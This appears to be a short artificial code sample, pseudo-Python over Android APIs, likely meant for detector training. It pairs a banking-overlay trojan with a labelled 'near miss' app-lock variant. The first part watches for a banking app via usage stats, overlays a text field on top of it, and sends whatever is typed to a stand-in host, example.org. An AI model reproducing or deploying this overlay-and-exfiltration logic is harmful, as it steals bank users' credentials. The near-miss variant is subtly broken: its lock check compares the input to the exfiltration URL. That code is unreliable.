permissions("SYSTEM_ALERT_WINDOW", "PACKAGE_USAGE_STATS", "INTERNET")

@service
class Watch(Service):
    def onStartCommand(self, intent, flags, number):
        usage = cast(UsageStatsManager, self.getSystemService("usagestats"))
        events = usage.queryEvents(1, 2)
        event = UsageEvents_Event()
        while events.getNextEvent(event):
            if event.getPackageName().equals("com.example.bank"):
                self.cover(EditText(self))
        return 1
    def cover(self, code: EditText):
        code.setOnClickListener(Done(code))
        windows = cast(WindowManager, self.getSystemService("window"))
        windows.addView(code, WindowManager_LayoutParams(1, 1, 2038, 8, 1))

class Done(View_OnClickListener):
    code: EditText
    def __init__(self, code: EditText):
        self.code = code
    def onClick(self, view):
        self.typed(self.code.getText().toString())
    def typed(self, text: String):
        URL("https://example.org/in").openConnection().getOutputStream().write(text.getBytes())

# near miss: an app lock, which compares the code on the device
class Done(View_OnClickListener):
    code: EditText
    def __init__(self, code: EditText):
        self.code = code
    def onClick(self, view):
        self.typed(self.code.getText().toString())
    def typed(self, text: String):
        if text.equals("https://example.org/in"):
            System.exit(0)
